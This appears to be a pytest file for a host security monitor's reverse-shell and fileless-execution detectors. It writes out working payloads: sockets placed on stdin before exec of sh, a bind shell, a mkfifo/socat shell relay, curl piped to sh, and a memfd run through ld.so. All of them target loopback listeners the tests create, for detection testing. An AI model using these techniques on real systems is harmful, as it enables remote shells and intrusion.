"""reverse_shell's stdio forms and fileless_exec's loader form against REAL workloads
(root): each payload runs as a watched session (`service.run.run`, monitor mode) and the
alerts are checked. Only loopback listeners made here are used; the listeners (and the
unix socket's outside peer) live in this pytest process, outside the session."""

from __future__ import annotations

import os
import shutil
import socket
import sys
import tempfile
import textwrap
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.test_detectors_live_b import _collector, of, watch

pytestmark = pytest.mark.bpf
PY = sys.executable


@pytest.fixture(scope="module")
def detecting() -> Iterator[tuple[Any, Any]]:
    from detectors.config import defaults

    yield from _collector(defaults())


@pytest.fixture
def script(tmp_path: Path):  # type: ignore[no-untyped-def]
    def _w(code: str) -> list[str]:
        p = tmp_path / f"p{len(list(tmp_path.iterdir()))}.py"
        p.write_text(textwrap.dedent(code))
        return [PY, str(p)]
    return _w


class Peer:
    """A listener outside the session (inet on loopback, or unix) that sends `exit` to
    whoever connects, so that a shell on the connection ends."""

    def __init__(self, family: int = socket.AF_INET) -> None:
        self.dir = tempfile.mkdtemp(prefix="aw-rs-")
        self.sock = socket.socket(family, socket.SOCK_STREAM)
        if family == socket.AF_UNIX:
            self.addr: Any = os.path.join(self.dir, "peer.sock")
        else:
            self.addr = ("127.0.0.1", 0)
        self.sock.bind(self.addr)
        self.addr = self.sock.getsockname()
        self.sock.listen(8)
        self.sock.settimeout(30)
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            try:
                c.sendall(b"echo reverse-shell-ran\nexit\n")
                c.settimeout(5)
                while c.recv(4096):
                    pass
            except OSError:
                pass
            finally:
                c.close()

    def close(self) -> None:
        self.sock.close()
        shutil.rmtree(self.dir, ignore_errors=True)


def hows(alerts: list[Any], detector: str = "reverse_shell") -> list[str]:
    return [a.fields.get("how", "") for a in of(alerts, detector)]


def test_socket_onto_closed_stdin_then_sh(detecting, script) -> None:
    peer = Peer()
    try:
        _status, alerts = watch(detecting, script(f"""
            import os, socket
            os.close(0)
            s = socket.socket()
            assert s.fileno() == 0
            s.connect({peer.addr!r})
            s.set_inheritable(True)  # Python's sockets are close-on-exec
            os.execv("/bin/sh", ["sh", "-c", "read x; true"])
        """))
    finally:
        peer.close()
    h = hows(alerts)
    assert any("placed on fd 0 by socket()" in x for x in h), h
    assert any("sh exec'd with fd 0 on an AF_INET socket" in x for x in h), h
    assert all(a.severity == "critical" for a in of(alerts, "reverse_shell"))


def test_accept_onto_fd_0_bind_shell(detecting, script) -> None:
    _status, alerts = watch(detecting, script("""
        import os, socket, subprocess
        srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
        c = socket.create_connection(srv.getsockname())
        c.sendall(b"exit\\n")
        os.close(0)
        conn, _ = srv.accept()
        assert conn.fileno() == 0
        conn.set_inheritable(True)
        subprocess.run(["sh"], timeout=20)
    """))
    h = hows(alerts)
    assert any("placed on fd 0 by accept" in x for x in h), h
    assert any("sh exec'd with fd 0 on an AF_INET socket" in x for x in h), h


def test_inherited_inet_socket_popen(detecting, script) -> None:
    peer = Peer()
    try:
        _status, alerts = watch(detecting, script(f"""
            import socket, subprocess
            s = socket.create_connection({peer.addr!r})
            subprocess.run(["sh", "-i"], stdin=s, stdout=s, stderr=s, timeout=20)
        """))
    finally:
        peer.close()
    h = hows(alerts)
    assert any("sh exec'd with fd 0 on an AF_INET socket to 127.0.0.1:" in x for x in h), h


def test_unix_socket_with_outside_peer_and_socketpair_benign(detecting, script) -> None:
    peer = Peer(socket.AF_UNIX)
    try:
        _status, alerts = watch(detecting, script(f"""
            import socket, subprocess
            a, b = socket.socketpair()
            b.sendall(b"exit\\n")
            subprocess.run(["sh", "-c", "read x"], stdin=a, stdout=a, timeout=20)
            s = socket.socket(socket.AF_UNIX)
            s.connect({peer.addr!r})
            subprocess.run(["sh"], stdin=s, stdout=s, stderr=s, timeout=20)
        """))
    finally:
        peer.close()
    rs = of(alerts, "reverse_shell")
    assert len(rs) == 1, [a.summary for a in rs]
    assert f"peer (pid {os.getpid()}) is outside the session" in rs[0].fields["how"]
    assert rs[0].fields["argv"] == ["sh"]


@pytest.mark.skipif(not shutil.which("socat"), reason="socat is installed by make setup")
def test_mkfifo_socat_relay_and_curl_pipe_sh_benign(detecting, tmp_path: Path) -> None:
    peer = Peer()
    fifo = tmp_path / "f"
    try:
        _status, alerts = watch(detecting, [
            "sh", "-c", f"mkfifo {fifo}; sh -i < {fifo} 2>&1 | "
                        f"socat - TCP:127.0.0.1:{peer.addr[1]} > {fifo}; rm -f {fifo}"])
    finally:
        peer.close()
    rs = of(alerts, "reverse_shell")
    assert [a.key.split(":")[0] for a in rs] == ["relay"], [a.summary for a in rs]
    assert "relayed through pipes/fifos" in rs[0].fields["how"]


@pytest.mark.skipif(not shutil.which("curl"), reason="curl is not installed")
def test_curl_pipe_sh_is_not_a_reverse_shell(detecting, tmp_path: Path) -> None:
    import http.server

    (tmp_path / "x").write_text("echo installed\n")

    class H(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *a: Any, **k: Any) -> None:
            super().__init__(*a, directory=str(tmp_path), **k)

        def log_message(self, *a: Any) -> None:
            pass

    srv = http.server.HTTPServer(("127.0.0.1", 0), H)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    try:
        status, alerts = watch(detecting, [
            "sh", "-c", f"curl -s http://127.0.0.1:{srv.server_port}/x | sh | cat"])
    finally:
        srv.shutdown()
    assert status == 0
    assert of(alerts, "reverse_shell") == []


def test_ld_so_runs_a_memfd(detecting, script) -> None:
    _status, alerts = watch(detecting, script("""
        import os
        fd = os.memfd_create("payload", 0)
        os.write(fd, open("/bin/true", "rb").read())
        os.execv("/lib64/ld-linux-x86-64.so.2",
                 ["ld-linux-x86-64.so.2", "--argv0", "true", f"/proc/self/fd/{fd}"])
    """))
    fl = of(alerts, "fileless_exec")
    assert any("the dynamic loader run on an fd path" in a.fields["how"] for a in fl), \
        [a.summary for a in alerts]


def test_accept_without_an_address_onto_fd_1(detecting, script) -> None:
    """accept(fd, NULL, NULL): no peer address in the event; the family is the listener's
    (the process table's)."""
    _status, alerts = watch(detecting, script("""
        import ctypes, os, socket
        libc = ctypes.CDLL(None, use_errno=True)
        srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
        c = socket.create_connection(srv.getsockname())
        os.close(1)
        assert libc.accept(srv.fileno(), None, None) == 1
    """))
    h = hows(alerts)
    assert any("AF_INET socket placed on fd 1 by accept()" in x for x in h), h
